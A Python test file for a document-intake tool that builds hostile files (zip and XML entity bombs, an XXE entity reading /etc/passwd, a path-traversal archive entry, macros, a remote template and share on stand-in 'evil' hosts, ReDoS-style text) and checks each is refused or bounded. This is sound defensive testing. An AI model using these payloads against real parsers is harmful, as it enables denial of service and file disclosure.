"""Files made to do harm: refused within bounded time and memory, by a plain sentence."""

from __future__ import annotations

import contextlib
import io
import multiprocessing
import os
import resource
import tempfile
import time
import zipfile
from collections.abc import Callable
from datetime import date
from multiprocessing.connection import Connection
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sopctl.domain.errors import SopctlError
from sopctl.intake.errors import ConvertFirstError, FileHostileError, FileLockedError, NotWordError
from sopctl.intake.files import FileIntake
from sopctl.intake.guard import MAX_ELEMENTS, Package, parse_xml
from tests.support.ugly import FOLDER, spreadsheet
from tests.support.word_parts import MAIN, docx, p, picture, png, story, tbl

TODAY = date(2026, 1, 15)
SECONDS = 60
MEMORY = 900_000_000  # bytes of address space beyond what the child begins with


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(files: dict[str, bytes | str], more: list[tuple[str, bytes]] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        for name, data in more or []:
            archive.writestr(name, data)
    return out.getvalue()


def with_document(xml: str | bytes) -> bytes:
    return zipped({**unpacked(docx(p("x"))), "word/document.xml": xml})


def zip_bomb() -> bytes:
    return with_document(b"<w:document>" + b" " * 60_000_000 + b"</w:document>")


def entity_bomb() -> bytes:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return with_document(f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{lines}]><x>&a11;</x>')


def entity_bomb_in_utf16() -> bytes:
    text = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    return with_document(text.encode("utf-16"))


def outside_entity() -> bytes:
    return with_document('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')


def many_entries() -> bytes:
    return zipped(dict(unpacked(docx(p("x")))), [(f"word/media/{n}.png", b"") for n in range(5_000)])


def climbing() -> bytes:
    return zipped(dict(unpacked(docx(p("x")))), [("../../evil.xml", b"<x/>")])


def macros() -> bytes:
    files = unpacked(docx(p("x")))
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = files["[Content_Types].xml"].decode().replace(MAIN, kind)
    return zipped({**files, "[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf"})


def template_from_outside() -> bytes:
    return docx(p("x"), relations={"rt": ("attachedTemplate", "https://evil.example/x.dotm")})


def share_from_outside() -> bytes:
    return docx(p("x"), relations={"rt": ("oleObject", "\\\\evil\\share\\x.xls")})


def deep() -> bytes:
    return with_document("<a>" * 5_000 + "</a>" * 5_000)


def pixel_bomb() -> bytes:
    return docx(
        p("x"),
        p(picture("r1")),
        parts={"media/a.png": png(7_000, 7_000)},
        relations={"r1": ("image", "media/a.png")},
    )


def enormous_table() -> bytes:
    return docx(tbl(*[tuple("ab" for _ in range(50)) for _ in range(200)]))


def nested_tables() -> bytes:
    inner = "<w:p/>"
    for _ in range(60):
        inner = f"<w:tbl><w:tr><w:tc>{inner}<w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    return docx(inner)


def huge_span() -> bytes:
    return docx(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
        p("x"),
    )


def ring_of_styles() -> bytes:
    made = "".join(
        f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 900}"/></w:style>' for n in range(900)
    )
    return docx(*(p("x", style=f"s{n}") for n in range(900)), style_xml=story("styles", made))


def many_runs() -> bytes:
    return docx(*(p(*(f"ก{n}" for n in range(40))) for _ in range(800)))


def nested_fields() -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return docx(p("x"), p(begin * 20_000 + "<w:r><w:t>ก</w:t></w:r>" * 2_000))


def notes_in_bookmarks() -> bytes:
    marks = "".join(f'<w:bookmarkStart w:id="{n}" w:name="b{n}"/>' for n in range(60_000))
    note = story("footnotes", '<w:footnote w:id="1">' + p("ก") + "</w:footnote>")
    mark = '<w:r><w:footnoteReference w:id="1"/></w:r>'
    return docx(p(marks + mark * 3_000), parts={"footnotes.xml": note})


def lines_for_patterns() -> bytes:
    """Lines on which a pattern that looks twice at each place would stay for hours."""
    return (
        "SOP-H-027\n" + "-" * 200_000 + "\nผู้อนุมัติ " + " " * 200_000 + "x\n" + "หน้า " * 50_000 + "\n"
        + "(" * 100_000 + "\n" + "XVI" * 50_000 + ". วัตถุประสงค์\n" + "ระเบียบปฏิบัติ" * 20_000 + " เลขที่ A-1\n"
    ).encode()  # fmt: skip


REFUSED: dict[Callable[[], bytes], type[SopctlError]] = {
    zip_bomb: FileHostileError,
    entity_bomb: FileHostileError,
    entity_bomb_in_utf16: FileHostileError,
    outside_entity: FileHostileError,
    many_entries: FileHostileError,
    climbing: FileHostileError,
    macros: FileHostileError,
    template_from_outside: FileHostileError,
    share_from_outside: FileHostileError,
    deep: NotWordError,
    spreadsheet: NotWordError,
}
TAKEN = (
    pixel_bomb, enormous_table, nested_tables, huge_span, ring_of_styles, many_runs, nested_fields,
    notes_in_bookmarks,
)  # fmt: skip


def _child(make: bytes, pipe: Connection, name: str) -> None:
    used = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (used + MEMORY, used + MEMORY))
    resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
    with tempfile.TemporaryDirectory() as own:
        tempfile.tempdir = own
        os.environ["TMPDIR"] = own
        try:
            found = FileIntake().read(make, name, today=TODAY)
            answer = f"taken {len(found.body_text)}"
        except SopctlError as error:
            answer = type(error).__name__
        left = [one.name for one in Path(own).iterdir()]
    pipe.send((answer, left))


def bounded(data: bytes, name: str = "x.docx") -> str:
    """What became of a file in a process of its own, with a limit on its memory and time."""
    context = multiprocessing.get_context("fork")
    ours, theirs = context.Pipe()
    child = context.Process(target=_child, args=(data, theirs, name))
    began = time.monotonic()
    child.start()
    theirs.close()
    try:
        answer, left = ours.recv() if ours.poll(2 * SECONDS) else ("hung", [])
    except EOFError:
        answer, left = "died", []
    child.join(5)
    child.kill()
    assert time.monotonic() - began < 2 * SECONDS
    assert not left
    return str(answer)


@pytest.mark.parametrize("make", REFUSED, ids=lambda make: make.__name__)
def test_harmful_files_are_refused_within_bounds(make: Callable[[], bytes]) -> None:
    assert bounded(make()) == REFUSED[make].__name__


def test_each_bound_on_what_is_unpacked_holds_alone() -> None:
    """The directory of a file is looked at first; what it says wrongly is met part by part."""
    package = Package(zipped({"a.xml": b"<a>" + b"b" * 900_000 + b"</a>"}))
    assert len(package.read("a.xml")) == 900_007
    with pytest.raises(FileHostileError):
        package.read("a.xml", 100_000)
    with pytest.raises(FileHostileError):
        parse_xml(b"<a>" + b"<b/>" * MAX_ELEMENTS + b"</a>")
    assert len(parse_xml(b"<a>" + b"<b/>" * 1_000 + b"</a>")) == 1_000


@pytest.mark.parametrize("make", TAKEN, ids=lambda make: make.__name__)
def test_enormous_files_are_taken_within_bounds(make: Callable[[], bytes]) -> None:
    assert bounded(make()).startswith("taken")


def test_texts_made_to_do_harm() -> None:
    assert bounded(lines_for_patterns(), "x.txt").startswith("taken")
    assert bounded(b"1. x\n" * 1_200_000, "x.txt") == FileHostileError.__name__


def test_what_a_table_holds_too_much_is_told_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sopctl.intake.word.story._MOST_CELLS", 10)
    found = FileIntake().read(docx(tbl(*[("ก", f"ข{n}") for n in range(7)])), "x.docx", today=TODAY)
    beyond = [one.excerpt for one in found.findings if one.code == "import-left-out"]
    assert beyond == ["ก | ข5 | ก | ข6"]


def test_a_picture_of_too_many_pixels_is_told() -> None:
    found = FileIntake().read(pixel_bomb(), "x.docx", today=TODAY)
    assert not found.files
    assert any(one.code == "import-picture" for one in found.findings)


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ConvertFirstError),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), FileLockedError),
        (b"%PDF-1.7\n", ConvertFirstError),
        (b"{\\rtf1}", ConvertFirstError),
        (zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), ConvertFirstError),
        (b"\x89PNG\r\n\x1a\n", ConvertFirstError),
        (b"PK\x03\x04", NotWordError),
        (b"no zip at all", NotWordError),
        (b"\0\1\2\3" * 40, NotWordError),
    ],
)
def test_other_kinds_get_a_sentence_of_their_own(data: bytes, error: type[SopctlError]) -> None:
    with pytest.raises(error):
        FileIntake().read(data, "x.docx", today=TODAY)


@pytest.mark.parametrize(
    "data", [b"\r\n<html><body>x", b'<?xml version="1.0"?><w:wordDocument/>', b"MIME-Version: 1.0"]
)
def test_a_page_that_is_called_a_word_file_has_to_be_saved_as_one(data: bytes) -> None:
    with pytest.raises(ConvertFirstError):
        FileIntake().read(data, "x.doc", today=TODAY)


@given(st.data())
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_no_damage_brings_it_down(data: st.DataObject) -> None:
    """Parts with bytes changed, tags doubled or cut: a draft, or a refusal of ours, and nothing else."""
    files = unpacked(FOLDER[data.draw(st.sampled_from(sorted(FOLDER)))]())
    name = data.draw(st.sampled_from(sorted(files)))
    part = bytearray(files[name])
    for _ in range(data.draw(st.integers(1, 4))):
        if not part:
            break
        at = data.draw(st.integers(0, len(part) - 1))
        match data.draw(st.integers(0, 3)):
            case 0:
                part[at] = data.draw(st.integers(0, 255))
            case 1:
                del part[at : at + data.draw(st.integers(1, 60))]
            case 2:
                tags = [b"<w:p>", b"</w:p>", b"<w:tbl>", b"&#0;", b"<w:r/>", b"&x;", b'w:val="-9999999999"']
                part[at:at] = data.draw(st.sampled_from(tags))
            case _:
                part[at : at + 5] = part[at : at + 5] * 3
    with contextlib.suppress(SopctlError):
        FileIntake().read(zipped({**files, name: bytes(part)}), "x.docx", today=TODAY)


@given(st.sampled_from(sorted(FOLDER)), st.integers(0, 10_000), st.binary(max_size=20))
@settings(max_examples=60, deadline=None)
def test_a_damaged_zip_brings_nothing_down(name: str, at: int, junk: bytes) -> None:
    data = bytearray(FOLDER[name]())
    place = at % len(data)
    data[place : place + len(junk)] = junk
    with contextlib.suppress(SopctlError):
        FileIntake().read(bytes(data), name, today=TODAY)


@given(st.binary(max_size=400) | st.text(max_size=400).map(str.encode))
@settings(max_examples=100, deadline=None)
def test_any_bytes_are_text_or_refused(data: bytes) -> None:
    with contextlib.suppress(SopctlError):
        FileIntake().read(data, "x.txt", today=TODAY)
